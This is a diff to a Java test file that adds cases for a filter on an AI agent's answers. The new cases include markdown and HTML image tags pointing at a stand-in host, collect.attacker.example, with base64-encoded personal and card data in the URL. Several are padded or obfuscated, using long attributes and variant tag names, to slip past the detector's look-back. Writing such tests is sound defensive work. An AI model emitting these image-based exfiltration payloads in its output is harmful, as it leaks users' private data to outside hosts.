@@ -176,7 +176,10 @@ class AgentPresetTest {
         // a disguised quote right before the real end: the URL ends at the real one, and what follows is text
         for (String answer : List.of(
                 "See ![logo](https://cdn.example.com/logo.png?v=%22)QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ and more.",
-                "See <img src=\"https://cdn.example.com/logo.png?v=&#34;\">QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ now.")) {
+                "See <img src=\"https://cdn.example.com/logo.png?v=&#34;\">QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ now.",
+                // a long <img> tag closed before a link: the link is no image source
+                "See <img src=\"https://cdn.example.com/logo.png\" alt=\"" + "a>".repeat(400) + "\"> and "
+                        + "https://collect.attacker.example/p.png?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ as text.")) {
             assertAnswerPasses(answer);
         }
     }
@@ -227,6 +230,12 @@ class AgentPresetTest {
                 "<img x=a\"b alt=\">\" src=\"https://collect.attacker.example/p.png?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ\">",
                 // "<image" is "<img" to an HTML parser
                 "Hi <image src=\"https://collect.attacker.example/p.png?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ\"> bye",
+                // attributes of any length before the source (the look-back for "<img" used to stop at 500 characters),
+                // after other tags and an "<img" closed before it
+                "<img alt=\"" + "a".repeat(5000)
+                        + "\" src=\"https://collect.attacker.example/p.png?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ\">",
+                "<p>x</p><img src=\"https://ok.example/a.png\"> <b>y</b> <IMG width=1 " + "data-x=\"z\" ".repeat(200)
+                        + "src=https://collect.attacker.example/p.png?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ>",
                 // an alt text of any length
                 "![" + "a".repeat(510)
                         + "](https://collect.attacker.example/p.png?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ)",
